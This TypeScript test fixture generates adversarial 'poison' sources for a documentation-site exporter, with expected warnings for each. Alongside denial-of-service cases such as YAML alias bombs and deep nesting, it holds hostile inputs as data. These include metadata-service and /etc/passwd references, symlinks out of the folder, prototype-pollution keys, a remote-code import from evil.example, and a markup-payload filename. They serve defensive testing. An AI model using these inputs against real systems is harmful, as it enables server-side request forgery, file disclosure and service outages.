/**
 * Poisoned sources: what a hostile or careless author may hand over. Each case is made by a rule and a size, so the same
 * size gives the same bytes. `npm test` takes `size`, OFFPRINT_TEST=full takes `full`.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';

export type Files = Record<string, string | Uint8Array>;

export interface PoisonCase {
  name: string;
  size: number;
  full: number;
  make(size: number): Files;
  /** What files alone cannot say: links, pipes, names in other bytes. */
  prepare?(folder: string): void;
  /** Codes of the warnings, each once, sorted; or the error that the export fails with, at `file` or `file:line`. */
  expect: { warnings: readonly string[] } | { fails: string; at: string };
  /** Wall time and memory that the child may take, at `full` too. */
  seconds: number;
  memoryMb: number;
  /** Twice the size may take at most 2.5 times the time. False where the size is bounded by a limit of ours. */
  scales: boolean;
}

interface Options {
  size?: number;
  full?: number;
  prepare?(folder: string): void;
  seconds?: number;
  memoryMb?: number;
  scales?: boolean;
}

const poison = (
  name: string,
  expect: PoisonCase['expect'],
  make: PoisonCase['make'],
  { size = 1, full = size, seconds = 20, memoryMb = 1024, scales = full > size, ...rest }: Options = {},
): PoisonCase => ({ name, expect, make, size, full, seconds, memoryMb, scales, ...rest });

const builds = (...warnings: string[]): PoisonCase['expect'] => ({ warnings: warnings.sort() });
const fails = (code: string, at: string): PoisonCase['expect'] => ({ fails: code, at });

/** Writes a source below a folder. */
export function writeFiles(folder: string, files: Files): void {
  const folders = new Set<string>();
  for (const [path, content] of Object.entries(files)) {
    const file = join(folder, path);
    if (!folders.has(dirname(file))) mkdirSync(dirname(file), { recursive: true });
    folders.add(dirname(file));
    writeFileSync(file, content);
  }
}

const config = (more: Record<string, unknown> = {}): string =>
  JSON.stringify({
    theme: 'mint',
    name: 'Poison',
    colors: { primary: '#0f766e' },
    navigation: { pages: ['index'] },
    ...more,
  });

/** A site of one page. */
const page = (body: string | Uint8Array, more: Files = {}): Files => ({
  'docs.json': config(),
  'index.mdx': body,
  ...more,
});

const list = <T>(count: number, make: (at: number) => T): T[] =>
  Array.from({ length: count }, (_, at) => make(at));
const lines = (count: number, make: (at: number) => string): string => list(count, make).join('\n');

/** Words by a seed (xorshift32). */
function words(count: number, seed: number): string[] {
  let state = seed;
  return list(count, () => {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    return (state >>> 0).toString(36);
  });
}

const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

const spec = (paths: unknown, components: unknown = {}): string =>
  JSON.stringify({ openapi: '3.1.0', info: { title: 'A', version: '1' }, paths, components });
const withSpec = (text: string): Files => ({
  'docs.json': config({ navigation: { pages: ['index'], groups: [{ group: 'API', openapi: 'api.json' }] } }),
  'index.mdx': 'Words.',
  'api.json': text,
});
const operation = (schema: unknown) => ({
  summary: 'List things',
  responses: { 200: { description: 'Fine', content: { 'application/json': { schema } } } },
});

const large: PoisonCase[] = [
  poison(
    'a page of ten megabytes',
    builds(),
    (n) =>
      page(
        lines(n, (at) => `Paragraph ${at} of a page, with *emphasis* and \`code\` and [a link](/index).\n`),
      ),
    { size: 15_000, full: 125_000, seconds: 60, memoryMb: 2048 },
  ),
  poison('a line of one megabyte', builds(), (n) => page(words(n, 7).join(' ')), {
    size: 20_000,
    full: 150_000,
  }),
  poison('one word of one megabyte', builds(), (n) => page('x'.repeat(n)), {
    size: 200_000,
    full: 1_000_000,
  }),
  poison('many distinct words', builds(), (n) => page(words(n, 9).join('\n\n').slice(0)), {
    size: 20_000,
    full: 1_000_000,
    seconds: 120,
    memoryMb: 3072,
  }),
  poison(
    'a navigation of 50,000 entries',
    builds(),
    (n) => ({
      'docs.json': config({
        navigation: { pages: list(n, (at) => (at % 100 === 0 ? 'index' : `p${at % 100}`)) },
      }),
      'index.mdx': 'Words.',
      ...Object.fromEntries(list(99, (at) => [`p${at + 1}.mdx`, 'Words.'])),
    }),
    { size: 5_000, full: 50_000, seconds: 60 },
  ),
  poison(
    'a navigation 1,000 deep',
    builds('nested-too-deep'),
    (n) => {
      let group: unknown = 'index';
      for (let at = 0; at < n; at++) group = { group: `G${at}`, pages: [group] };
      return { ...page('Words.'), 'docs.json': config({ navigation: { pages: ['index', group] } }) };
    },
    { size: 1_000, scales: false },
  ),
  poison(
    'ten thousand empty pages',
    builds(),
    (n) => ({
      'docs.json': config(),
      ...Object.fromEntries(list(n, (at) => [at === 0 ? 'index.mdx' : `p${at}.mdx`, ''])),
    }),
    { size: 500, full: 10_000, seconds: 120, memoryMb: 2048 },
  ),
  poison(
    'a table of 5,000 rows and 50 columns',
    builds(),
    (n) => {
      const row = (text: string): string => `|${`${text}|`.repeat(50)}`;
      return page([row('a'), row('-'), ...list(n, (at) => row(` ${at} `))].join('\n'));
    },
    { size: 200, full: 5_000, seconds: 60, memoryMb: 2048 },
  ),
  poison(
    'a code block of 100,000 lines',
    builds(),
    (n) => page(`\`\`\`js\n${lines(n, (at) => `const value${at} = call(${at}, "text"); // note`)}\n\`\`\`\n`),
    { size: 2_000, full: 100_000, seconds: 60, memoryMb: 2048 },
  ),
  poison(
    '20,000 images',
    builds(),
    (n) =>
      page(
        lines(n, (at) => `![Image ${at}](/i/${at}.png)\n`),
        Object.fromEntries(list(n, (at) => [`i/${at}.png`, PNG])),
      ),
    { size: 1_000, full: 20_000, seconds: 60 },
  ),
  poison('100,000 broken links', builds('broken-link'), (n) => page(lines(n, (at) => `[a](/gone/${at})\n`)), {
    size: 5_000,
    full: 100_000,
    seconds: 60,
  }),
  poison(
    '100,000 redirects',
    builds(),
    (n) => ({
      ...page('Words.'),
      'docs.json': config({ redirects: list(n, (at) => ({ source: `/old/${at}`, destination: '/' })) }),
    }),
    { size: 5_000, full: 100_000, seconds: 60 },
  ),
  poison(
    '100,000 variables',
    builds(),
    (n) => ({
      ...page(lines(1_000, (at) => `{{v${at}}}\n`)),
      'docs.json': config({ variables: Object.fromEntries(list(n, (at) => [`v${at}`, `value ${at}`])) }),
    }),
    { size: 5_000, full: 100_000, seconds: 60 },
  ),
  poison(
    'a configuration of a million keys',
    builds('config-unknown-key'),
    (n) => ({ ...page('Words.'), 'docs.json': config(Object.fromEntries(list(n, (at) => [`k${at}`, at]))) }),
    { size: 50_000, full: 1_000_000, seconds: 60, memoryMb: 2048 },
  ),
  poison('20,000 headings', builds(), (n) => page(lines(n, (at) => `## Heading ${at % 7}\n`)), {
    size: 2_000,
    full: 20_000,
    seconds: 60,
  }),
  poison(
    '20,000 footnotes',
    builds(),
    (n) => page(`${lines(n, (at) => `Words.[^${at}]\n`)}\n${lines(n, (at) => `[^${at}]: Note ${at}.\n`)}`),
    { size: 1_000, full: 20_000, seconds: 60 },
  ),
  poison(
    '20,000 link definitions',
    builds(),
    (n) => page(`${lines(n, (at) => `[a][r${at}]\n`)}\n${lines(n, (at) => `[r${at}]: /index "title"\n`)}`),
    { size: 2_000, full: 20_000, seconds: 60 },
  ),
  poison('20,000 code blocks', builds(), (n) => page(lines(n, (at) => `\`\`\`sh\ncurl ${at}\n\`\`\`\n`)), {
    size: 1_000,
    full: 20_000,
    seconds: 60,
  }),
  poison(
    '5,000 tabs in one group',
    builds(),
    (n) => page(`<Tabs>\n${lines(n, (at) => `\n<Tab title="Tab ${at}">\n\nWords.\n\n</Tab>\n`)}\n</Tabs>`),
    { size: 500, full: 5_000, seconds: 60 },
  ),
  poison(
    '10,000 icons',
    builds(),
    (n) => page(lines(n, (at) => `<Icon icon="${['star', 'house', 'gear'][at % 3]}" />\n`)),
    { size: 1_000, full: 10_000, seconds: 60 },
  ),
];

/** A site of `n` pages, each with the entry of the navigation that `make` gives. */
const wide =
  (key: string, make: (at: number) => unknown) =>
  (n: number): Files => ({
    'docs.json': config({ navigation: { [key]: list(n, make) } }),
    ...Object.fromEntries(list(n, (at) => [`p${at}.mdx`, 'Words.'])),
  });

/** Content of every page must not make the output grow with the square of the site. */
const wideSites: PoisonCase[] = [
  poison(
    'thousands of pages in one group',
    builds(),
    wide('pages', (at) => `p${at}`),
    { size: 300, full: 3_000 },
  ),
  ...(['tab', 'version', 'language', 'product', 'anchor', 'dropdown'] as const).map((kind) =>
    poison(
      `thousands of ${kind}s`,
      builds('navigation-too-large'),
      wide(`${kind}s`, (at) => ({ [kind]: `${kind}-${at}`, pages: [`p${at}`] })),
      { size: 300, full: 3_000, memoryMb: 2048 },
    ),
  ),
  poison(
    'thousands of links, tags, styles and scripts on every page',
    builds('config-too-large'),
    (n) => ({
      'docs.json': config({
        navigation: { pages: ['p0'] },
        navbar: { links: list(n, (at) => ({ label: `L${at}`, href: 'https://example.com/' })) },
        footer: {
          links: list(n, () => ({ header: 'H', items: [{ label: 'a', href: 'https://example.com/' }] })),
        },
        seo: { metatags: Object.fromEntries(list(n, (at) => [`m${at}`, 'x'])) },
      }),
      ...Object.fromEntries(
        list(n, (at) => [
          [`p${at}.mdx`, 'Words.'],
          [`c${at}.css`, 'a{}'],
          [`s${at}.js`, ''],
        ]).flat(),
      ),
    }),
    { size: 300, full: 3_000, memoryMb: 2048 },
  ),
];

const nested: PoisonCase[] = [
  poison('quotes 10,000 deep', builds('page-too-complex'), (n) => page(`${'> '.repeat(n)}a\n`), {
    size: 2_000,
    full: 10_000,
    scales: false,
  }),
  poison('lists 10,000 deep', builds('page-too-complex'), (n) => page(`${'- '.repeat(n)}a\n`), {
    size: 2_000,
    full: 10_000,
    scales: false,
  }),
  poison(
    'elements 10,000 deep',
    builds('page-too-complex'),
    (n) => page(`${'<div>\n'.repeat(n)}x\n${'</div>\n'.repeat(n)}`),
    { size: 2_000, full: 10_000, scales: false },
  ),
  poison(
    'brackets 100,000 deep',
    builds('page-too-complex'),
    (n) => page(`{${'('.repeat(n)}1${')'.repeat(n)}}`),
    {
      size: 20_000,
      full: 100_000,
      scales: false,
    },
  ),
  poison(
    'JSON 100,000 deep',
    builds('config-unknown-key', 'nested-too-deep'),
    (n) => ({
      ...page('Words.'),
      'docs.json': `{"name":"x","colors":{"primary":"#0f766e"},"navigation":{"pages":["index"]},"a":${'['.repeat(n)}${']'.repeat(n)}}`,
    }),
    { size: 20_000, full: 100_000, scales: false },
  ),
  poison('unclosed elements', builds('unclosed-tag', 'invalid-mdx'), (n) => page('<div>\n'.repeat(n)), {
    size: 2_000,
    full: 10_000,
    scales: false,
  }),
];

const circular: PoisonCase[] = [
  poison('a snippet cycle', builds('snippet-cycle'), () => ({
    ...page('import A from "/snippets/a.mdx"\n\n<A />\n'),
    'snippets/a.mdx': 'import B from "/snippets/b.mdx"\n\nA <B />\n',
    'snippets/b.mdx': 'import A from "/snippets/a.mdx"\n\nB <A />\n',
  })),
  poison('a snippet that holds itself', builds('snippet-cycle'), () => ({
    ...page('import A from "/snippets/a.mdx"\n\n<A />\n'),
    'snippets/a.mdx': 'import A from "/snippets/a.mdx"\n\nA <A /><A /><A />\n',
  })),
  poison(
    'a chain of 10,000 snippets',
    builds('page-too-complex'),
    (n) => ({
      ...page('import S from "/snippets/s0.mdx"\n\n<S />\n'),
      ...Object.fromEntries(
        list(n, (at) => [`snippets/s${at}.mdx`, `import S from "/snippets/s${at + 1}.mdx"\n\n${at} <S />\n`]),
      ),
      [`snippets/s${n}.mdx`]: 'End.\n',
    }),
    { size: 1_000, full: 10_000 },
  ),
  poison('a diamond of 2^20 snippets', builds('page-too-large'), () => ({
    ...page('import S from "/snippets/s0.mdx"\n\n<S />\n'),
    ...Object.fromEntries(
      list(20, (at) => [
        `snippets/s${at}.mdx`,
        `import S from "/snippets/s${at + 1}.mdx"\n\n<S />\n\n<S />\n`,
      ]),
    ),
    'snippets/s20.mdx': 'End.\n',
  })),
  poison('configuration that refers to itself', fails('ref-cycle', 'nav.json:1'), () => ({
    ...page('Words.'),
    'docs.json': '{"name": "x", "navigation": {"$ref": "./nav.json"}}',
    'nav.json': '{"$ref": "./docs.json"}',
  })),
  poison('configuration out of the folder', fails('ref-escape', 'docs.json:1'), () => ({
    ...page('Words.'),
    'docs.json': '{"name": "x", "navigation": {"$ref": "../../../../etc/passwd.json"}}',
  })),
  poison('redirects in a circle', builds('redirect-loop'), () => ({
    ...page('Words.'),
    'docs.json': config({
      redirects: [
        { source: '/a', destination: '/b' },
        { source: '/b', destination: '/a' },
      ],
    }),
  })),
];

const front = (yaml: string): Files => page(`---\n${yaml}\n---\n\nWords.\n`);
const frontMatter: PoisonCase[] = [
  poison('a bomb of YAML aliases', builds('front-matter'), () =>
    front(
      `a0: &a0 [x,x,x,x,x,x,x,x,x,x]\n${lines(9, (at) => `a${at + 1}: &a${at + 1} [${list(10, () => `*a${at}`).join(',')}]`)}`,
    ),
  ),
  poison('a bomb of YAML merges', builds('front-matter'), () =>
    front(
      `a: &a {${list(500, (at) => `k${at}: 1`).join(', ')}}\n${lines(1_000, (at) => `b${at}: {<<: [*a, *a, *a]}`)}`,
    ),
  ),
  poison('a million keys', builds('front-matter'), (n) => front(lines(n, (at) => `k${at}: 1`)), {
    size: 100_000,
    full: 1_000_000,
    scales: false,
  }),
  poison('keys that stand twice', builds(), () => front('title: A\ntitle: B')),
  poison('keys of prototypes', builds(), () =>
    front('__proto__: {polluted: true}\nconstructor: {prototype: {polluted: true}}\ntoString: x'),
  ),
  poison('front matter that is code', builds('front-matter'), () =>
    page('---js\n{ title: process.env.HOME }\n---\n\nWords.'),
  ),
  poison('YAML tags', builds(), () => front('title: !!js/function "function () { return 1 }"')),
];

const api: PoisonCase[] = [
  poison('schemas that refer to themselves', builds('description-reference'), () => {
    const schemas = {
      Self: { $ref: '#/components/schemas/Self' },
      A: { $ref: '#/components/schemas/B' },
      B: { $ref: '#/components/schemas/A' },
      Tree: { type: 'object', properties: { child: { $ref: '#/components/schemas/Tree' } } },
    };
    const paths = Object.fromEntries(
      Object.keys(schemas).map((name) => [
        `/${name}`,
        { get: operation({ $ref: `#/components/schemas/${name}` }) },
      ]),
    );
    return withSpec(spec(paths, { schemas }));
  }),
  poison(
    'allOf of 10,000',
    builds('description-too-large'),
    (n) =>
      withSpec(
        spec({
          '/a': {
            get: operation({ allOf: list(n, (at) => ({ properties: { [`p${at}`]: { type: 'string' } } })) }),
          },
        }),
      ),
    { size: 10_000 },
  ),
  poison(
    '20,000 schemas that extend and name each other',
    builds(),
    (n) => {
      const ref = (at: number) => ({ $ref: `s${at % n}` });
      const schemas = list(n, (at) => [
        `S${at}`,
        {
          $id: `s${at}`,
          $dynamicAnchor: `n${at % 50}`,
          allOf: [ref(at * 7), ref(at * 13), { $ref: `#n${at % 50}` }],
          items: { $dynamicRef: `#n${at % 50}` },
          discriminator: { propertyName: 'kind' },
        },
      ]);
      return withSpec(spec({ '/a': { get: operation(ref(0)) } }, { schemas: Object.fromEntries(schemas) }));
    },
    { size: 2_000, full: 20_000 },
  ),
  poison(
    '2,000 operations in 20 megabytes',
    builds(),
    (n) =>
      withSpec(
        spec(
          Object.fromEntries(
            list(n, (at) => [
              `/things/${at}`,
              {
                get: {
                  ...operation({ type: 'string' }),
                  summary: `Get thing ${at}`,
                  description: 'd'.repeat(10_000),
                },
              },
            ]),
          ),
        ),
      ),
    { size: 200, full: 2_000, seconds: 60 },
  ),
  poison('references to hosts, files and the metadata service', builds('description-reference'), () =>
    withSpec(
      spec(
        Object.fromEntries(
          [
            'http://169.254.169.254/latest/meta-data/',
            'file:///etc/passwd',
            '../../../etc/passwd',
            'http://[::1]:1/',
          ].map(($ref, at) => [`/a${at}`, { get: operation({ $ref }) }]),
        ),
      ),
    ),
  ),
  poison('a description that refers to hosts and files', builds('remote-description'), () => ({
    'docs.json': config({
      navigation: {
        groups: [
          { group: 'A', openapi: 'http://169.254.169.254/openapi.json' },
          { group: 'B', pages: ['index'] },
        ],
      },
    }),
    'index.mdx': 'Words.',
  })),
];

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);
const bytes = (...parts: (string | number[])[]): Uint8Array =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? utf8(part) : Uint8Array.from(part))));

const encodings: PoisonCase[] = [
  poison('a byte order mark', builds(), () => ({
    'docs.json': bytes([0xef, 0xbb, 0xbf], config()),
    'index.mdx': bytes([0xef, 0xbb, 0xbf], '---\ntitle: Mark\n---\n\n# Words\n'),
  })),
  poison('CRLF and CR', builds(), () => ({
    'docs.json': config().replaceAll(',', ',\r\n'),
    'index.mdx':
      '---\r\ntitle: Lines\r\n---\r\n\r\n<Note>\r\nWords.\r\n</Note>\r\n\r\n```js\r\na\r\n```\r\rEnd',
  })),
  poison('UTF-16', fails('invalid-json', 'docs.json:1'), () => ({
    'docs.json': Buffer.from(`\ufeff${config()}`, 'utf16le'),
    'index.mdx': Buffer.from('\ufeff# Words', 'utf16le'),
  })),
  poison('a page in UTF-16', builds('not-utf-8'), () =>
    page(Buffer.from('\ufeff# Words\n\nMore.', 'utf16le')),
  ),
  poison('lone surrogates, NUL and directions', builds('anchor-not-found', 'not-utf-8'), () =>
    page(
      bytes(
        '---\ntitle: "\\uD800 \\u202E evil"\n---\n\n## A ',
        [0xed, 0xa0, 0x80],
        ' b\u0000c \u202Egnirts\u202C \ufffe {"\\uD800"}\n\n[a](#%ED%A0%80)\n\n`\u0000`\n\n<Tab title={"\\uDFFF"}>x</Tab>\n',
      ),
    ),
  ),
  poison('names that look alike', builds(), () => ({
    'docs.json': config({ navigation: { pages: ['index', 'paypal', 'раураl'] } }),
    'index.mdx': 'Words.',
    'paypal.mdx': 'Latin.',
    'раураl.mdx': 'Cyrillic.',
  })),
  poison('twins by Unicode form and by case', builds('file-collision', 'page-collision'), () => ({
    'docs.json': config(),
    'index.mdx': 'Words.',
    'caf\u00e9.mdx': 'Composed.',
    'cafe\u0301.mdx': 'Decomposed.',
    'Guide.mdx': 'Upper.',
    'guide.mdx': 'Lower.',
    'a.png': PNG,
    'A.png': PNG,
  })),
  poison('names that are hard to write', builds('output-left-out', 'unsafe-path'), () => ({
    'docs.json': config(),
    'index.mdx': '[a](/a%20b) [b](/what%3F%23) [c](/CON) [d](</a b>) [e](/%252e%252e/x)',
    'a b.mdx': 'Spaces.',
    'CON.mdx': 'Device.',
    'aux.mdx': 'Device.',
    '%2e%2e/x.mdx': 'Encoded dots.',
    'what?#.mdx': 'Marks.',
    'dot.mdx.': 'Dot at the end.',
    '...mdx': 'Dots.',
    '-rf.mdx': 'Dash.',
    '<img src=x onerror=1>.mdx': 'Markup.',
    'line\nbreak.mdx': 'Line break.',
    'back\\slash.mdx': 'Backslash.',
    [`${'n'.repeat(251)}.mdx`]: 'Long.',
    [`${'ü'.repeat(125)}.mdx`]: 'Long in bytes.',
  })),
];

const files: PoisonCase[] = [
  poison('links in circles and out of the folder', builds('symlink-ignored'), () => page('Words.'), {
    prepare(folder) {
      symlinkSync('.', join(folder, 'loop'));
      symlinkSync('b', join(folder, 'a'));
      symlinkSync('a', join(folder, 'b'));
      symlinkSync('/etc/passwd', join(folder, 'secret.mdx'));
      symlinkSync('/proc', join(folder, 'proc'));
    },
  }),
  poison('docs.json as a link', fails('config-missing', 'docs.json'), () => ({ 'index.mdx': 'Words.' }), {
    prepare: (folder) => symlinkSync('/etc/passwd', join(folder, 'docs.json')),
  }),
  poison('a pipe', builds('special-file-ignored'), () => page('Words.'), {
    prepare: (folder) => void execFileSync('mkfifo', [join(folder, 'pipe.mdx')]),
  }),
  poison('an empty folder', fails('config-missing', 'docs.json'), () => ({})),
  poison('no docs.json', fails('config-missing', 'docs.json'), () => ({ 'index.mdx': 'Words.' })),
  poison('an empty docs.json', fails('invalid-json', 'docs.json:1'), () => ({
    ...page('Words.'),
    'docs.json': '',
  })),
  poison('a page without a byte', builds(), () => page('')),
  poison('only images', fails('no-pages', 'docs.json'), () => ({ 'docs.json': config(), 'a.png': PNG })),
  poison('docs.json that is a folder', fails('config-missing', 'docs.json'), () => ({
    'docs.json/index.mdx': 'Words.',
  })),
  poison('300 folders deep', builds('unsafe-path'), () => ({
    ...page('Words.'),
    [`${'d/'.repeat(300)}deep.mdx`]: 'Words.',
  })),
];

const engines: PoisonCase[] = [
  poison('formulas that define without end', builds('invalid-math'), () =>
    page(
      `$$\n\\def\\a{\\a\\a}\\a\n$$\n\n$$\n${list(26, (at) => `\\def\\${String.fromCharCode(65 + at)}{${`\\${String.fromCharCode(66 + at)}`.repeat(20)}}`).join('')}\\A\n$$\n`,
    ),
  ),
  poison(
    'a formula 10,000 deep',
    builds('invalid-math', 'page-too-complex'),
    (n) => page(`$$\n${'{'.repeat(n)}x${'}'.repeat(n)}\n$$\n`),
    {
      size: 10_000,
    },
  ),
  poison('a formula of one megabyte', builds('invalid-math'), (n) => page(`$$\n${'x + '.repeat(n)}x\n$$\n`), {
    size: 250_000,
  }),
  poison('10,000 formulas', builds(), (n) => page(lines(n, (at) => `$x_1 + ${at} = y^2$\n`)), {
    size: 500,
    full: 10_000,
    seconds: 60,
  }),
  poison(
    'a diagram of one megabyte',
    builds(),
    (n) => page(`\`\`\`mermaid\ngraph TD\n${lines(n, (at) => `a${at} --> b${at}`)}\n\`\`\`\n`),
    {
      size: 5_000,
      full: 60_000,
    },
  ),
  poison(
    '50,000 utility classes',
    builds(),
    (n) => ({
      'docs.json': config(),
      ...Object.fromEntries(
        list(n, (at) => {
          const row = (line: number): string =>
            list(10, (part) => `w-[${at * 1000 + line * 10 + part}px]`).join(' ');
          const body = lines(100, (line) => `<div className="${row(line)}">x</div>\n`);
          return [at === 0 ? 'index.mdx' : `p${at}.mdx`, body];
        }),
      ),
    }),
    { size: 4, full: 50, seconds: 120, memoryMb: 2048 },
  ),
  poison(
    'more utility classes on one page than are read',
    builds('page-too-large'),
    (n) =>
      page(
        lines(
          n,
          (at) => `<div className="${list(10, (part) => `w-[${at * 10 + part}px]`).join(' ')}">x</div>\n`,
        ),
      ),
    { size: 250, full: 5_000, scales: false },
  ),
  poison(
    'one class of one megabyte',
    builds(),
    (n) => page(`<div className="${'a:'.repeat(n)}p-4 w-[${'('.repeat(n)}]">x</div>\n`),
    {
      size: 100_000,
      full: 250_000,
      scales: false,
    },
  ),
  poison('a list that grows without end', builds('expression-too-large'), () =>
    page('export const a = Array.from({ length: 1000 });\n\n{a.map(() => a.map(() => a.map(() => "x")))}\n'),
  ),
  poison('a component that calls itself', builds('expression-too-large'), () =>
    page('export const A = () => <><A /><A /></>;\n\n<A />\n'),
  ),
  poison(
    'a script of one megabyte',
    builds(),
    (n) => ({
      ...page('import { A } from "/snippets/a.jsx"\n\n<A />\n'),
      'snippets/a.jsx': `${lines(n, (at) => `const value${at} = ${at};`)}\nexport const A = () => <p>x</p>;\n`,
    }),
    { size: 2_000, full: 15_000 },
  ),
  poison(
    'a script 100,000 deep',
    builds('invalid-module'),
    (n) => ({
      ...page('import { A } from "/snippets/a.jsx"\n\n<A />\n'),
      'snippets/a.jsx': `export const A = () => { useState(0); return ${'('.repeat(n)}1${')'.repeat(n)} };\n`,
    }),
    { size: 100_000, scales: false },
  ),
];

const HOOKED =
  'export const A = () => { const [n, set] = useState(0); return <button onClick={() => set(n + 1)}>{n}</button> };';
const islands: PoisonCase[] = [
  poison(
    'hundreds of pages with islands',
    builds(),
    (n) => ({
      'docs.json': config(),
      ...Object.fromEntries(
        list(n, (at) => [
          at === 0 ? 'index.mdx' : `p${at}.mdx`,
          `export const v${at} = ${at};\n\n${HOOKED}\n\n<A />\n`,
        ]),
      ),
    }),
    { size: 20, full: 300, seconds: 120, memoryMb: 2048 },
  ),
  poison(
    'thousands of islands on one page',
    builds(),
    (n) => page(`${HOOKED}\n\n${lines(n, () => '<A />\n')}`),
    {
      size: 300,
      full: 3_000,
      seconds: 60,
    },
  ),
  poison(
    'islands that import what is not theirs',
    builds('unresolved-import', 'unsupported-expression'),
    () => ({
      ...page(
        `import fs from 'node:fs'\nimport { A } from '/snippets/a.jsx'\nimport p from '../../../../etc/passwd'\n\n<A /> {fs} {p}\n`,
      ),
      'snippets/a.jsx': [
        "import fs from 'node:fs';",
        "import passwd from '/etc/passwd';",
        "import up from '../../../../../etc/passwd.js';",
        "import remote from 'https://evil.example/x.js';",
        "import data from 'data:text/javascript,export default 1';",
        "import json from './package.json' with { type: 'json' };",
        "const later = () => import('node:child_process');",
        HOOKED,
      ].join('\n'),
    }),
  ),
  poison(
    'an island whose code is one line of one megabyte',
    builds(),
    (n) => page(`export const A = () => { useState(0); return <p>{"${'x'.repeat(n)}"}</p> };\n\n<A />\n`),
    { size: 50_000, full: 400_000, scales: false },
  ),
];

export const poisonCases: readonly PoisonCase[] = [
  ...large,
  ...wideSites,
  ...nested,
  ...circular,
  ...frontMatter,
  ...api,
  ...encodings,
  ...files,
  ...engines,
  ...islands,
];
